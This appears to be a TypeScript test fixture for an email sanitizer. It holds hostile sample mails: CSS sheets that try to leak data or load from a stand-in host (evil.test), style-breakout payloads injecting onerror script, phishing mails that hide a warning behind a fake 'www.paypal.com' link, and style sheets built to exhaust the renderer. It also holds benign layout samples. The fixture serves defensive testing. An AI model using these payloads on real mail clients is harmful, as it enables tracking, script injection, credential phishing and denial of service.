/** Mails written for this project: style sheets that try forbidden things, and honest ones with their expected look. */

const load = 'https://evil.test';

/** Each mail must cause no request, whether or not the reader allows remote images. */
export const loadingSheets: Record<string, string> = {
  'an attribute selector for each letter': `<style>a[href^="https://shop.test/a"]{background:url(${load}/a)} [title*=x]{background:url(${load}/b)}</style><a href="https://shop.test/abc">x</a>`,
  'a font for some letters only': `<style>@font-face{font-family:x;src:url(${load}/f);unicode-range:U+0041} p{font-family:x}</style><p>A</p>`,
  'a counter style with an image': `<style>@counter-style x{system:cyclic;symbols:url(${load}/c);suffix:""} li{list-style:x}</style><ul><li>x</ul>`,
  'an import': `<style>@import "${load}/i.css"; @import url(${load}/j.css) layer(guard); p{color:red}</style><p>x</p>`,
  'escaped names': String.raw`<style>p{background:\75rl(${load}/e)} p{\62 ackground-image:u\72l(${load}/g)}</style><p>x</p>`,
  'image-set and src': `<style>p{background:image-set("${load}/s" 1x)} div{background:-webkit-image-set(url(${load}/t) 1x)} td{background:src("${load}/u")}</style><p>x</p><div>y</div>`,
  'a registered property': `<style>@property --x{syntax:"<url>";inherits:true;initial-value:url(${load}/p)} p{background:var(--x)}</style><p>x</p>`,
  hover: `<style>body:hover{background:url(${load}/h)} a:hover{list-style-image:url(${load}/k);cursor:url(${load}/l),auto}</style><a href="https://shop.test/">x</a>`,
  'media as a question': `<style>@media (min-width:1px){p{background:url(${load}/m)}} @supports (display:block){p{background:url(${load}/n)}} @container (min-width:1px){p{background:url(${load}/o)}}</style><p>x</p>`,
  has: `<style>body:has(a[href*=token]){background:url(${load}/q)} p:has(b){border-image:url(${load}/r) 1}</style><p><b>x</b></p>`,
  'the end of the style element in a string': `<style>p{font-family:"</style><img src=${load}/v onerror=window.__pwn=1>"}</style><p>x</p>`,
  'the end of our style element in a name': `<style>.\\3c\\2fstyle\\3e\\3cimg{color:red} p{font-family:"\\3c/style><img src=x onerror=window.__pwn=1>"}</style><p class="</style><img src=x onerror=window.__pwn=1>">x</p>`,
  'unclosed comments and strings': `<style>p{color:red} /* </style><p>x</p><style>*/ p{background:url("${load}/w) } div{color:blue</style><div>y</div>`,
  nesting: `<style>p{color:red; &:hover{background:url(${load}/x)} b{background:url(${load}/y)} @media all{background:url(${load}/z)}}</style><p>x<b>y</b></p>`,
  'inline styles that load': `<p style="background:\\75rl(${load}/1)">x</p><p style="background-image:image-set('${load}/2' 1x)">y</p><p style="background:linear-gradient(red,blue),url(${load}/3)">z</p>`,
  'attributes around styles': `<style media='all" onload="window.__pwn=1' type="text/css">p{color:red}</style><style type=text/javascript>window.__pwn=1</style><p>x</p>`,
};

/** Attacks that hide the warning after a deceptive link, or move it away from the words (`@@`, see `lyingMail`). */
export const coveredWarnings: Record<string, string> = {
  'a rule for the warning itself':
    '<style>a::after,a:after,*::after{content:""!important;display:none!important;font-size:0!important}</style>@@',
  'no size at all': '<style>a,p,body{font-size:0!important;line-height:0!important}</style>@@',
  'our own layer': '<style>@layer guard{a::after{display:none!important} a{display:block;height:1px}}</style>@@',
  'our own names': '<style>[data-leads]::after{display:none} .wide,.blocked,.s0{opacity:0!important}</style>@@',
  'a box of one pixel':
    '<style>.x{height:1px!important;max-height:1px!important;overflow:hidden!important;width:60px!important}</style><div class="x">@@</div>',
  transparency: '<style>.x{opacity:0.01!important}</style><div class="x">@@</div>',
  '600 spaces that do not break': `@@${'&nbsp;'.repeat(600)}`,
  '600 letters that are drawn as nothing': `@@${'\u2800\u3164'.repeat(300)}`,
  'a block 3,000 pixels high': '@@<span style="display:block;height:3000px"></span>',
  'a block by a sheet': '<style>.x{display:block!important;padding-top:3000px!important}</style>@@<b class="x">.</b>',
  '3,000 line breaks': `@@${'<br>'.repeat(3000)}`,
  'a table within': '@@<table height="3000"><tr><td height="3000">.</td></tr></table>',
  'large letters': '@@<span style="font-size:1500px">.</span>',
  'an image that is not there': '@@<img alt="" width="2000" height="3000" src="https://evil.test/x.png">',
  '10,000 words': `@@${' e mais'.repeat(10_000)}`,
  'what follows, drawn over it':
    '@@</a><span style="display:inline-block;margin-left:-400px;width:400px;background:#fff">&nbsp;</span><a>',
  'words moved away': '<style>p,a{text-indent:-9999px!important;letter-spacing:-30px!important}</style>@@',
};

/** Returns the mail of an attack, in which `@@` stands for the words of the deceptive link. */
export function lyingMail(attack: string): string {
  const [before = '', after = ''] = attack.split('@@');
  // The mail has the part before `@@` in front of the link, and the part after it inside the link, behind the words.
  return `${before}<p><a href="https://evil.test/login">www.paypal.com${after}</a> </p>`;
}

/** Mails whose style sheets would keep the browser busy: by many rules, by long selectors, or by deep nesting. */
export const heavySheets: Record<string, string> = {
  'fifty thousand rules': `<style>${Array.from({ length: 50_000 }, (_, i) => `.a${i} b i u>p~p{color:red}`).join('')}</style><p>x</p>`,
  'fifty thousand selectors': `<style>${Array.from({ length: 9_000 }, (_, i) => `.a${i}`).join(',')}{color:red}</style><p>x</p>`,
  'five megabytes': `<style>${'p{color:red} '.repeat(400_000)}</style><p>x</p>`,
  'a selector of ten thousand parts': `<style>${'div '.repeat(10_000)}{color:red}</style><p>x</p>`,
  'media in media in media': `<style>${'@media all{'.repeat(5000)}p{color:red}${'}'.repeat(5000)}</style><p>x</p>`,
  'rules that search everything': `<style>${'* * * * *:nth-child(n){color:red} '.repeat(1399)}</style>${'<b><b><b>x</b></b></b>'.repeat(2600)}`,
  'rules that match everything': `<style>${'* * * *{display:none} '.repeat(1400)}</style>${'<b><b><b>x</b></b></b>'.repeat(5000)}`,
};

export const responsiveMail = `<!doctype html><html><head><meta name="viewport" content="width=device-width"><style>
  :root { color-scheme: light dark }
  .preheader { display: none !important; visibility: hidden; mso-hide: all }
  .card { background: #0b5f6b !important; color: #ffffff; border-radius: 6px; padding: 0 48px }
  #note { color: #008000 } p.note { color: #ff0000 }
  .phone { display: none }
  @media only screen and (max-width: 600px) { .desk { display: none !important } .phone { display: block !important } }
  @media (prefers-color-scheme: dark) { body, td { background: #000 !important; color: #fff !important } }
</style></head><body style="margin:0"><span class="preheader">Só para a lista</span>
<table width="600" align="center"><tr><td class="card" width="600"><h1>Ofertas</h1><p id="note" class="note">Nota</p>
<div class="desk">Versão larga</div><div class="phone">Versão estreita</div>
<table width="560"><tr><td width="280" style="min-width:280px">Um</td><td width="280">Dois</td></tr></table></td></tr></table></body></html>`;

export const heroMail = `<style>.hero{background-image:url(https://images.shop.test/hero.jpg)} .hero h1{color:#fff}</style>
<table width="100%"><tr><td id="one" height="220" style="background:url(https://images.shop.test/a.jpg)"><h2 style="color:#ffffff">Claro sobre a foto</h2></td></tr>
<tr><td class="hero"><h1>Claro pela folha</h1></td></tr>
<tr><td style="background-image:url(https://images.shop.test/b.jpg)"><h3 style="color:#222222">Escuro sobre a foto</h3></td></tr>
<tr><td style="background:linear-gradient(90deg,#0b5f6b,#123456);"><h4 style="color:#fff">Sobre um degradê</h4></td></tr>
<tr><td style="background-image:linear-gradient(rgba(0,0,0,.6),rgba(0,0,0,.6)),url(https://images.shop.test/c.jpg);color:#fff">Sombra sobre a foto</td></tr></table>`;

/** Backgrounds that are never shown: images of the mail itself, and newer forms of CSS. */
export const lostGrounds = [
  'background-color:#112233;background-color:var(--brand,#112233)',
  'background:var(--brand)',
  'background:#112233;background:oklch(0.3 0.1 250)',
  'background:#112233;background:linear-gradient(oklch(.3 .1 250),#000)',
  'background-image:url(data:image/gif;base64,R0lGODlhAQABAIAAAAAAAAAAACH5BAEAAAAALAAAAAABAAEAAAIBRAA7)',
  'background-image:url(cid:ground@shop.test)',
  'background-image:image-set(url(https://images.shop.test/d.jpg) 1x)',
];
export const lostGroundsMail = [
  '<body bgcolor="#000000" text="#eeeeee"><p>Claro no corpo</p><table>',
  ...lostGrounds.map((style) => `<tr><td style="color:#fff;${style}">Claro</td></tr>`),
  '<tr><td background="cid:ground@shop.test" style="color:#fff">Claro</td></tr>',
  '<tr><td style="color:#fff;background-color:#112233">Sobre uma cor</td></tr></table></body>',
].join('');
